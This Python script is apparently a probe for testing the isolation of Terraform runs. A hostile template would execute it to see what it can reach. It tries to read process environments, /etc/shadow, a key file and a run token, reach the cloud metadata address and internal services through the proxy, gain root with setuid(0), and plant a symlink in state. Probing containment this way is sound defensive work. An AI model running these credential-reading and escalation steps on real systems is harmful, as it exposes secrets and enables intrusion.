"""What a hostile template's own program tries, run by Terraform with `local-exec`: prints what it got, one JSON line each."""

from __future__ import annotations

import json
import os
import socket
import sys
import urllib.request
from contextlib import suppress
from pathlib import Path


def say(attempt: str, got: object) -> None:
    """The line in the run's log; in hexadecimal, so that no redactor hides a success."""
    print("GOT " + json.dumps([attempt, str(got).encode().hex()]), flush=True)


def tried(attempt: str, function: object, *arguments: object) -> None:
    try:
        say(attempt, function(*arguments))  # type: ignore[operator]
    except Exception as error:
        say(attempt, f"refused: {type(error).__name__}")


def text(path: str) -> str:
    return Path(path).read_text(errors="replace")


def environments() -> str:
    found = []
    for path in Path("/proc").glob("[0-9]*/environ"):
        with suppress(OSError):
            found.append(path.read_text(errors="replace"))
    return "\n".join(found)


def listing(path: str) -> str:
    return " ".join(sorted(item.name for item in Path(path).iterdir()))


def connected(place: str) -> str:
    if place.startswith("/"):
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(place)
            return "reached"
    host, _, port = place.rpartition(":")
    with socket.create_connection((host, int(port)), 5):
        return "reached"


def asked(url: str) -> str:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(url, timeout=10).read().decode()


def tunnelled(place: str) -> str:
    """Through the proxy of the run, if it has one."""
    proxy = os.environ["HTTPS_PROXY"].rpartition("/")[2]
    host, _, port = proxy.rpartition(":")
    with socket.create_connection((host, int(port)), 5) as connection:
        connection.sendall(f"CONNECT {place} HTTP/1.1\r\n\r\n".encode())
        answer = connection.recv(1000).decode()
    if " 200 " not in answer.partition("\r\n")[0]:
        raise PermissionError(answer)
    return "reached"


def main(targets: dict[str, str]) -> None:
    tried("environments", environments)
    tried("key", text, targets["key"])
    tried("other run", text, targets["other_run"])
    tried("work", listing, targets["work"])
    tried("templates", listing, targets["templates"])
    tried("passwords", text, "/etc/shadow")
    for name in ("database", "redis", "metadata", "daemon"):
        tried(name, connected, targets[name])
        tried(f"{name} by proxy", tunnelled, targets[name])
    tried("portal", asked, targets["portal"])
    tried("real metadata", connected, "169.254.169.254:80")
    tried("own token", os.environ.__getitem__, "TF_HTTP_PASSWORD")
    tried("root", os.setuid, 0)
    tried("bad state", os.symlink, targets["key"], "errored.tfstate")
    say("end", "")


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
